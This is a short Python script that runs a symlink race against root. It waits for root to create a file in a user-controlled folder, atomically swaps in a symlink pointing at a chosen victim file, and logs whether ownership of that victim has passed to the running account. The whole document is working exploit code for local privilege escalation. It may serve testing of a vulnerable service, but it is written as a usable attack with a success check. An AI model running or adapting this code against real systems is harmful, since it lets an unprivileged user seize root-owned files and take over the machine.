"""Wait for root to make a file in one's own folder, and put a link in its place that very moment.

swaps.py FOLDER PATH VICTIM SECONDS. It says in FOLDER/swaps.log how often PATH was there, how often
the link was in its place, and whether VICTIM has become this account's.
"""

import contextlib
import json
import os
import sys
import time
from pathlib import Path

MOST_SWAPS = 50


def main(folder: str, path: str, victim: str, seconds: float) -> None:
    log, link = Path(folder, "swaps.log"), f"{path}.link"
    log.write_text(json.dumps({"pid": os.getpid()}) + "\n")
    end, looks, swaps = time.monotonic() + seconds, 0, 0
    won = False
    while time.monotonic() < end and swaps < MOST_SWAPS and not won:
        looks += 1
        if not os.path.islink(path) and os.path.lexists(path):
            with contextlib.suppress(OSError):
                os.symlink(victim, link)
            with contextlib.suppress(OSError):
                os.rename(link, path)
                swaps += 1
        won = owned(victim)
        if swaps and looks % 1000 == 0:  # root may look again, and begin anew
            with contextlib.suppress(OSError):
                os.unlink(path)
    said = {"looks": looks, "swaps": swaps, "won": owned(victim), "ended": True}
    with log.open("a") as file:
        file.write(json.dumps(said) + "\n")


def owned(victim: str) -> bool:
    with contextlib.suppress(OSError):
        return os.stat(victim).st_uid == os.getuid()
    return False


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]))
